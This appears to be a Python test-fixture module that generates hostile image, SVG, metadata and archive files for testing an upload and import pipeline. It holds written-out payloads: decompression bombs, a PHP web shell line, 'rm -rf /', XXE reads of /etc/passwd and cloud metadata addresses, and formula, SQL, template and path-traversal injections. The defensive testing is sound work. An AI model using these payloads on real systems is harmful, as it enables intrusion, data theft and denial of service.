# ruff: noqa: E501  a file that means no good is a line
"""Files that mean no good, made in memory: bombs, polyglots, drawings with scripts, poisoned metadata, ruins.

Each has a name that says what it tries. Seeds are fixed, so that every run sees the same files.
"""

from __future__ import annotations

import gzip
import io
import random
import stat
import struct
import tarfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests import pictures
from tests.archive_files import (
    RawEntry,
    full_overlap_bomb,
    quoted_overlap_bomb,
    raw_zip,
    tar_member,
    tar_of,
    tar_of_members,
    zip_of,
)
from tests.metadata_files import iptc_block, with_iptc, with_segment, xmp_packet
from tests.pictures import picture

SAVED = {"TIFF": {"compression": "tiff_lzw"}, "WEBP": {"quality": 80}}
RASTERS = ("JPEG", "PNG", "WEBP", "GIF", "TIFF", "BMP", "AVIF", "HEIF")
SUFFIXES = {
    "JPEG": "jpg", "PNG": "png", "WEBP": "webp", "GIF": "gif", "TIFF": "tif", "BMP": "bmp", "AVIF": "avif",
    "HEIF": "heic", "SVG": "svg",
}  # fmt: skip
# No page may hold this as a tag; as text it may be read.
TAG = "<zqx onerror=alert(1)>"
SCRIPT = f'"><script>alert("zqx")</script>{TAG}'
WORDS = {
    "html": SCRIPT,
    "attribute": "' onmouseover='alert(1)' \" autofocus onfocus=alert(1) x=\"",
    "template": "{{ settings.SECRET_KEY }}{% load static %}${7*7}#{7*7}<%= 7*7 %>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"zqx")',
    "command formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "controls": "a\x07b\x1b[2Jc\x7fd\u202egpj.exe\u2066",
    "sql": "'; DROP TABLE dam_asset; --",
    "percent": "%s%n%x%d%(asctime)s{0}{title!r}",
    "long": "zqx " * 250_000,
    "nothing of it": "\ufeff\u200b\u00ad",
}


@dataclass(frozen=True)
class Hostile:
    """One file: what it tries, under which name it comes, and its bytes."""

    what: str
    name: str
    content: bytes


def files() -> list[Hostile]:
    """Those that come as pictures."""
    every = [*ruins(), *bombs(), *polyglots(), *drawings(), *poisoned(), *badly_named()]
    assert len({one.what for one in every}) == len(every)
    return every


@cache
def whole(format: str) -> bytes:
    """A sound picture with something in it."""
    if format == "SVG":
        return svg('<rect width="40" height="30" fill="teal"/><path d="M1 1 L30 20" stroke="black"/>')
    image = Image.effect_noise((61, 43), 80).convert("RGB")
    out = io.BytesIO()
    if format == "HEIF":
        from pillow_heif import register_heif_opener

        register_heif_opener()
    image.save(out, format=format, **SAVED.get(format, {}))
    return out.getvalue()


def ruins() -> Iterator[Hostile]:
    """Every format cut off at many places, and with bytes changed, left out and doubled."""
    for format, suffix in SUFFIXES.items():
        content = whole(format)
        parts = 11 if format != "SVG" else 4  # each drawing is a process
        for place in sorted({1, 3, 11, 20, *(len(content) * part // parts for part in range(1, parts))}):
            if place < len(content):
                yield Hostile(f"{format} cut at {place}", f"cut.{suffix}", content[:place])
        for seed in range(14 if format != "SVG" else 5):
            yield Hostile(f"{format} fuzzed {seed}", f"fuzzed.{suffix}", fuzzed(content, seed))


def fuzzed(content: bytes, seed: int) -> bytes:
    """The header is hit more often than its share: there the decisions are made."""
    chance = random.Random(seed)
    changed = bytearray(content)
    for _change in range(1 + seed):
        if not changed:
            break
        end = min(len(changed), 96) if chance.random() < 0.5 else len(changed)
        place = chance.randrange(end)
        match chance.randrange(5):
            case 0:
                changed[place] = chance.randrange(256)
            case 1:
                changed[place] ^= 1 << chance.randrange(8)
            case 2:
                changed[place : place + 4] = chance.choice(
                    (b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff")
                )
            case 3:
                del changed[place : place + chance.randrange(1, 9)]
            case _:
                changed[place:place] = changed[place : place + chance.randrange(1, 9)]
    return bytes(changed)


def bombs() -> Iterator[Hostile]:
    """Small files that would be large ones, or take long."""
    for side in (30_000, 60_000, 2**31 - 1):
        header = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
        png = pictures.SIGNATURE + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(9999)))
        yield Hostile(f"PNG of {side} pixels a side", "bomb.png", png + chunk(b"IEND", b""))
    yield Hostile("PNG of a gigapixel, whole", "bomb.png", pictures.pixel_bomb_png())
    yield Hostile(
        "PNG as large as is taken", "large.png", pictures.pixel_bomb_png.__wrapped__(10_900, 10_900)
    )
    yield Hostile(
        "PNG a pixel high and very long", "long.png", pictures.pixel_bomb_png.__wrapped__(1_000_000, 1)
    )
    packed = zlib.compress(bytes(200_000_000), 9)
    for kind, body in (
        (b"zTXt", b"Comment\0\0" + packed),
        (b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + packed),
        (b"iCCP", b"x\0\0" + packed),
    ):
        content = after_header(whole("PNG"), chunk(kind, body))
        yield Hostile(f"PNG with 200 MB in {kind.decode()}", "text.png", content)
    yield Hostile("PNG with more pixels than its header says", "more.png", pixels_beyond_header())
    screen = struct.pack("<HHBBB", 65535, 65535, 0xF0, 0, 0)
    yield Hostile("GIF of 65535 pixels a side", "bomb.gif", b"GIF89a" + screen + whole("GIF")[13:])
    frames = whole("GIF")
    frame = frames[frames.index(b"\x2c\0\0\0\0") : -1]
    yield Hostile("GIF of 4000 frames", "film.gif", frames[:-1] + frame * 4000 + b";")
    webp = bytearray(whole("WEBP"))
    webp[26:30] = b"\xff\x3f\xff\x3f"
    yield Hostile("WebP of 16383 pixels a side", "bomb.webp", bytes(webp))
    for width, height in ((65535, 65535), (65535, 1)):
        jpeg = bytearray(whole("JPEG"))
        place = jpeg.index(b"\xff\xc0") + 5
        jpeg[place : place + 4] = struct.pack(">HH", height, width)
        yield Hostile(f"JPEG of {width} x {height}", "bomb.jpg", bytes(jpeg))
    bmp = bytearray(whole("BMP"))
    bmp[18:26] = struct.pack("<ii", 2**30, 2**30)
    yield Hostile("BMP of 2^30 pixels a side", "bomb.bmp", bytes(bmp))
    bmp[18:26] = struct.pack("<ii", -5, 2**31 - 1)
    yield Hostile("BMP of negative width", "bomb.bmp", bytes(bmp))
    yield Hostile("TIFF of 2^32 pixels", "bomb.tif", tiff(width=65536, height=65536))
    yield Hostile("TIFF whose directories go round in a ring", "ring.tif", tiff(next_directory=8))
    yield Hostile(
        "TIFF with a directory of 65535 entries", "many.tif", b"II*\0\x08\0\0\0\xff\xff" + bytes(5000)
    )
    for format, side in (("AVIF", b"\0\0\x80\0\0\0\x80\0"), ("HEIF", b"\x7f\xff\xff\xff\x7f\xff\xff\xff")):
        content = bytearray(whole(format))
        place = content.index(b"ispe") + 8
        content[place : place + 8] = side
        yield Hostile(f"{format} of more pixels than there are", f"bomb.{SUFFIXES[format]}", bytes(content))
    yield Hostile(
        "EXIF of the largest size with rings", "exif.jpg", with_segment(whole("JPEG"), 0xE1, exif_ring())
    )
    many = whole("JPEG")
    for number in range(40):
        many = with_segment(many, 0xE1, b"Exif\0\0" + random.Random(number).randbytes(65_000))
    yield Hostile("2.6 MB of EXIF that is noise", "exif.jpg", many)
    ends = b"".join(b"\xff\xda" + bytes(20) for _scan in range(20_000))
    yield Hostile("JPEG of many scans", "scans.jpg", whole("JPEG")[:-2] + ends + b"\xff\xd9")


def polyglots() -> Iterator[Hostile]:
    """Files that are two things at once, or another than they say."""
    page = b"<html><body><script>alert('zqx')</script></body></html>"
    archive = zip_of({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "evil.class": b"\xca\xfe\xba\xbe"})
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"
    script = b"/*" + whole("GIF")[6:] + b"*/=1;alert('zqx');"
    yield Hostile("GIF with a Java archive behind it", "gifar.gif", whole("GIF") + archive)
    yield Hostile("PNG with a zip archive behind it", "zip.png", whole("PNG") + archive)
    yield Hostile("JPEG with a document behind it", "doc.jpg", whole("JPEG") + pdf)
    yield Hostile("JPEG with a document in its comment", "doc.jpg", with_segment(whole("JPEG"), 0xFE, pdf))
    yield Hostile("document with a JPEG behind it", "doc.jpg", pdf + whole("JPEG"))
    yield Hostile("GIF that is a script", "script.gif", b"GIF89a" + script)
    yield Hostile("GIF with a script as its comment", "comment.gif", gif_comment(page))
    yield Hostile("page behind a JPEG", "page.jpg", whole("JPEG") + page)
    yield Hostile("page in a JPEG's comment", "page.jpg", with_segment(whole("JPEG"), 0xFE, page))
    yield Hostile(
        "page in a PNG's text", "page.png", after_header(whole("PNG"), chunk(b"tEXt", b"Title\0" + page))
    )
    yield Hostile("page in a PNG's own chunk", "page.png", after_header(whole("PNG"), chunk(b"paGe", page)))
    yield Hostile("page in the pixels of a BMP", "page.bmp", whole("BMP")[:54] + page * 200)
    yield Hostile("page that begins like a BMP", "page.bmp", b"BM" + page)
    yield Hostile(
        "PHP in a JPEG", "shell.php.jpg", with_segment(whole("JPEG"), 0xFE, b"<?php system($_GET[0]);")
    )
    for name, head in (
        ("page.jpg", page), ("page.svg.png", b"<svg onload=alert(1)>"), ("page.webp", b"RIFF\x24\0\0\0WEBP" + page),
        ("shell.gif", b"GIF89a;<?php phpinfo();"), ("program.jpg", b"MZ\x90\0" + bytes(60)),
        ("program.png", b"\x7fELF\2\1\1" + bytes(60)), ("script.jpg", b"#!/bin/sh\nrm -rf /\n"),
        ("feed.xml.jpg", b"<?xml version='1.0'?><rss/>"), ("postscript.tif", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"),
        ("empty.jpg", b""), ("zero.jpg", bytes(1000)), ("letters.bmp", b"BM"), ("pict.tif", b"MM\0*"),
        ("movie.heic", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom" + bytes(50)), ("flash.jpg", b"FWS\x05" + bytes(60)),
        ("photoshop.psd.jpg", b"8BPS\0\1" + bytes(60)), ("icon.png", b"\0\0\1\0\1\0" + bytes(40)),
        ("djvu.tif", b"AT&TFORM" + bytes(40)), ("mail.jpg", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + page),
    ):  # fmt: skip
        yield Hostile(f"{name}: not what it says", name, head)


def drawings() -> Iterator[Hostile]:
    """SVG that runs, fetches, or grows."""
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    nested = "".join(f'<g id="g{n}">' + f'<use xlink:href="#g{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    entity = '<!DOCTYPE svg [<!ENTITY x SYSTEM "{}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
    inside = {
        "a script": "<script>alert(1)</script>",
        "a script from elsewhere": '<script href="http://127.0.0.1:9/x.js"/>',
        "an event": '<rect onload="alert(1)" width="9" height="9"/>',
        "a page": '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" '
        'src="javascript:alert(1)"/></foreignObject>',
        "a file": f'<image {xlink} xlink:href="file:///etc/passwd" width="9" height="9"/>',
        "a picture from elsewhere": '<image href="http://169.254.169.254/latest/" width="9" height="9"/>',
        "a part of a file": f'<use {xlink} xlink:href="file:///etc/passwd#x"/>',
        "a link": '<a href="javascript:alert(1)"><rect width="9" height="9"/></a>',
        "a style from elsewhere": "<style>@import url(http://127.0.0.1:9/x.css);</style><rect width='9' height='9'/>",
        "a style of a file": "<style>@font-face{font-family:x;src:url(file:///etc/passwd)}</style>",
        "a page as an address": '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" width="9" '
        'height="9"/>',
        "a drawing as an address": '<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
        'width="9" height="9"/>',
        "an animation of an address": '<a id="x"><animate attributeName="href" values="javascript:alert(1)"/></a>',
        "a handler": '<handler type="application/ecmascript">alert(1)</handler>',
        "a filter of a file": '<filter id="f"><feImage href="file:///etc/passwd"/></filter>'
        '<rect filter="url(#f)" width="9" height="9"/>',
        "a filter of huge size": '<filter id="f"><feGaussianBlur stdDeviation="100000"/></filter>'
        '<rect filter="url(#f)" width="999999" height="999999"/>',
        "references by the billion": f'<g {xlink}><g id="g0"><rect width="9" height="9"/></g>{nested}'
        '<use xlink:href="#g11"/></g>',
        "a reference to itself": f'<g id="r" {xlink}><use xlink:href="#r"/></g>',
        "a pattern of itself": '<pattern id="p" width="1" height="1"><rect fill="url(#p)" width="9" height="9"/>'
        '</pattern><rect fill="url(#p)" width="9" height="9"/>',
        "ten thousand levels": "<g>" * 10_000 + "</g>" * 10_000,
        "a path of a million points": '<path d="M0 0 ' + "L1 1 " * 200_000 + '"/>',
        "many dashes": '<path d="M0 0 L1000000 0" stroke="red" stroke-dasharray="0.0001"/>',
    }
    for what, body in inside.items():
        yield Hostile(f"SVG with {what}", "drawing.svg", svg(body))
    yield Hostile(
        "SVG with laughs by the billion", "lol.svg",
        f'<!DOCTYPE svg [<!ENTITY a0 "zqx">{laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&a11;</text>'
        "</svg>".encode(),
    )  # fmt: skip
    for address in (
        "file:///etc/passwd",
        "http://169.254.169.254/",
        "php://filter/resource=x",
        "expect://id",
    ):
        yield Hostile(f"SVG with an entity of {address}", "entity.svg", entity.format(address).encode())
    sheet = '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    yield Hostile("SVG with a style sheet of a file", "sheet.svg", sheet.encode())
    yield Hostile("SVG in UTF-16", "wide.svg", svg("<script>alert(1)</script>").decode().encode("utf-16"))
    yield Hostile("SVG, gzipped", "drawing.svg", gzip.compress(svg(" " * 1_000_000)))
    for size in (
        'width="1e9" height="1e9"',
        'width="0" height="0"',
        'viewBox="0 0 1e30 1e-30"',
        'width="-5"',
    ):
        yield Hostile(f"SVG of the size {size}", "size.svg", svg("", size))


def poisoned() -> Iterator[Hostile]:
    """Metadata that becomes titles, prompts, tables and pages."""
    for what, words in WORDS.items():
        short = words[:60_000]
        allowed = "".join(
            character if character.isprintable() else f"&#{ord(character)};" for character in short
        )
        allowed = allowed.replace("&#", "\0").replace("&", "&amp;").replace("<", "&lt;").replace("\0", "&#")
        title = f"<dc:title><rdf:Alt><rdf:li xml:lang='x-default'>{allowed}</rdf:li></rdf:Alt></dc:title>"
        packet = xmp_packet(title)
        exif = Image.Exif()
        exif[0x010E] = exif[0x013B] = exif[0x8298] = short
        jpeg = picture(seed=len(what) * 7 + len(words) % 1000)
        yield Hostile(f"EXIF with {what}", "exif.jpg", with_exif(jpeg, exif))
        yield Hostile(
            f"IPTC with {what}", "iptc.jpg", with_iptc(jpeg, iptc_block((5, short.encode()[:30_000])))
        )
        yield Hostile(
            f"XMP with {what}", "xmp.jpg", with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet)
            if len(packet) < 65_000 else jpeg + packet,
        )  # fmt: skip
        text = chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet)
        yield Hostile(
            f"PNG's XMP with {what}", "xmp.png", after_header(picture(format="PNG", seed=len(what)), text)
        )
    for what, packet in {
        "a file": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        + xmp_packet("<dc:source>&e;</dc:source>"),
        "an address": b'<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">' + xmp_packet(""),
        "laughs": b'<!DOCTYPE x [<!ENTITY a "zqxzqxzqxzqx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        + xmp_packet("<dc:source>&b;</dc:source>"),
        "ten thousand levels": xmp_packet("<dc:x>" * 9000 + "</dc:x>" * 9000),
        "no end": xmp_packet("")[:-60],
    }.items():
        text = chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet)
        yield Hostile(f"XMP with {what} behind an entity", "xxe.png", after_header(whole("PNG"), text))


def badly_named() -> Iterator[Hostile]:
    """Sound pictures whose names lead elsewhere."""
    names = (
        "../../../../etc/cron.d/x.jpg", "..\\..\\windows\\x.jpg", "/etc/passwd", "C:\\boot.ini", "CON.jpg", "aux.jpg",
        "nul", "COM1.jpg", "x.jpg\0.php", "x" * 300 + ".jpg", "皇" * 200 + ".jpg", "x\u202egpj.exe", "..", ".", "...jpg",
        ".htaccess", "x.jpg::$DATA", "x.jpg%00.html", "%2e%2e%2fx.jpg", "x\r\nSet-Cookie: a=b.jpg", "x.php;.jpg",
        '"><img src=x onerror=alert(1)>.jpg', "';alert(1)//.jpg", "{{7*7}}.jpg", "=1+1.csv.jpg", "-rf.jpg", "|id.jpg",
        "$(id).jpg", "e\u0301.jpg", "\ufeffx.jpg", "\u2215etc\u2215x.jpg", "\uff0e\uff0e\uff0fx.jpg", " x .jpg ", "x.svg",
    )  # fmt: skip
    for number, name in enumerate(names):
        yield Hostile(f"named {name[:40]!r}", name, picture(seed=1000 + number))


def archives() -> dict[str, bytes]:
    """Those that come as imports, each by what it tries."""
    red = picture(seed=2001)
    names = {
        f"good-{number}.jpg" if bad is None else bad: picture(seed=2100 + number)
        for number, bad in enumerate(
            (None, "../up.jpg", "/abs.jpg", "..\\up.jpg", "C:/x.jpg", "a" * 3000 + ".jpg", "con.jpg", "x\u202egpj.jpg",
             "<script>alert(1)</script>.jpg", "=cmd|' /C calc'!A0.jpg", "//server/share/x.jpg", "a/./../../b.jpg",
             "~root/x.jpg", "$HOME/x.jpg", "x.jpg\n", "%s%n.jpg", "./" * 300 + "x.jpg", "a/" * 300 + "x.jpg")
        )
    }  # fmt: skip
    links = [
        (tar_member(f"link-{number}.jpg", kind=kind, target=target), b"")
        for number, (kind, target) in enumerate((
            (tarfile.SYMTYPE, "/etc/passwd"), (tarfile.SYMTYPE, "../../x"), (tarfile.LNKTYPE, "/etc/shadow"),
            (tarfile.CHRTYPE, ""), (tarfile.BLKTYPE, ""), (tarfile.FIFOTYPE, ""),
        ))
    ]  # fmt: skip
    good = (tar_member("good.jpg", len(red)), red)
    nested = zip_of({"a.jpg": red})
    for level in range(8):
        nested = zip_of({f"{level}-{copy}.zip": nested for copy in range(3)})
    symlink = RawEntry(b"x.jpg", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
    return {
        "names that lead elsewhere": zip_of(names),
        "names in tar": tar_of({name: content for name, content in names.items() if "\n" not in name}),
        "links and devices": tar_of_members([*links, good]),
        "links in zip": raw_zip([symlink, RawEntry(b"good.jpg", red)]),
        "one bomb in zip": zip_of({"flat.bmp": bytes(60_000_000), "good.jpg": red}),
        "bomb in tar.gz": tar_of({"flat.bmp": bytes(60_000_000), "good.jpg": red}, "gz"),
        "bomb in tar.bz2": tar_of({"flat.bmp": bytes(60_000_000)}, "bz2"),
        "bomb in tar.xz": tar_of({"flat.bmp": bytes(60_000_000)}, "xz"),
        "gzip in gzip": gzip.compress(gzip.compress(bytes(50_000_000))),
        "overlaps, full": full_overlap_bomb(),
        "overlaps, quoted": quoted_overlap_bomb(),
        "archives in archives": nested,
        "an archive that holds itself": of_itself(),
        "a directory that lies": raw_zip([RawEntry(b"a.jpg", red, size=10), RawEntry(b"b.jpg", red, crc=1)]),
        "a count that lies": raw_zip([RawEntry(b"a.jpg", red)], claimed_count=60_000),
        "twenty thousand entries": raw_zip(RawEntry(b"%d.txt" % number) for number in range(20_000)),
        "cut zip": zip_of({"a.jpg": red, "b.jpg": picture(seed=2002)})[:-300],
        "cut tar": tar_of({"a.jpg": red})[:700],
        "noise behind a beginning": b"PK\3\4" + random.Random(3).randbytes(20_000),
        "zip of everything": zip_of({f"{number:03}-{one.name[-12:]}": one.content for number, one in
                                     enumerate(one for one in ruins() if one.name[0] == "f")}),
    }  # fmt: skip


def of_itself() -> bytes:
    """An archive whose entry reaches over the archive's own directory to its end."""
    entry = RawEntry(b"r.zip.jpg", b"PK\3\4" + bytes(200))
    rest = len(raw_zip([entry])) - 39
    entry.size = entry.packed_size = rest
    return raw_zip([entry])


def svg(body: str, size: str = 'width="40" height="30"') -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {size}>{body}</svg>'.encode()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def after_header(png: bytes, more: bytes) -> bytes:
    return png[:33] + more + png[33:]


def pixels_beyond_header() -> bytes:
    header = struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(100_000_000), 9)
    return pictures.SIGNATURE + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def gif_comment(words: bytes) -> bytes:
    gif = whole("GIF")
    return gif[:-1] + b"!\xfe" + bytes([min(len(words), 255)]) + words[:255] + b"\0;"


def tiff(*, width: int = 8, height: int = 8, next_directory: int = 0) -> bytes:
    """One directory and nothing behind it."""
    tags = [(256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 200), (277, 3, 1),
            (278, 4, height), (279, 4, width * height % 2**32)]  # fmt: skip
    entries = b"".join(struct.pack("<HHLL", tag, kind, 1, value) for tag, kind, value in tags)
    directory = struct.pack("<H", len(tags)) + entries + struct.pack("<L", next_directory)
    return b"II*\0" + struct.pack("<L", 8) + directory + bytes(200)


def exif_ring() -> bytes:
    """EXIF whose directories point at one another."""
    entries = struct.pack("<HHLL", 0x8769, 4, 1, 8) + struct.pack("<HHLL", 0x8825, 4, 1, 8)
    return b"Exif\0\0II*\0\x08\0\0\0\x02\0" + entries + struct.pack("<L", 8) + bytes(60_000)


def with_exif(jpeg: bytes, exif: Image.Exif) -> bytes:
    body = exif.tobytes()
    return with_segment(jpeg, 0xE1, body[:65_000])
